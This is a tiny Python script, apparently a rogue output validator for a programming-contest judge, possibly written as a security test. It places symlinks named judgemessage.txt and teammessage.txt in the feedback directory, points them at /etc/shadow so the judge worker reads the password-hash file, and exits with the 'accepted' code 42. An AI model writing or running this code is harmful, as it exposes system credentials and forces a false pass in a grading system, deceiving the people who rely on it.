"""Leaves links to a secret where the worker reads, and accepts."""
import os
import sys

for name in ("judgemessage.txt", "teammessage.txt"):
    os.symlink("/etc/shadow", os.path.join(sys.argv[3], name))
sys.exit(42)
